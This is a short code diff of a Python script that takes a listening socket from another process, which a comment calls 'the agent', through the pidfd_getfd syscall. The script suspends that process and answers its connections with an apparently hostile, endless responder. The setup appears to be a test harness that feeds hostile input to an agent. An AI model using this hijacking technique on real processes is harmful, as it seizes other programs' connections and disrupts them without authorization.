@@ -23,6 +23,7 @@ fd = libc.syscall(438, pidfd, 3, 0)
 if fd < 0: raise SystemExit('pidfd_getfd failed: %d' % ctypes.get_errno())
 os.kill(pid, signal.SIGSTOP)
 srv = socket.socket(fileno=fd)
+srv.setblocking(True)  # the agent's socket is non-blocking
 log = open('/tmp/hostile.log', 'a')
 def endless(c, head):
     c.sendall(head)
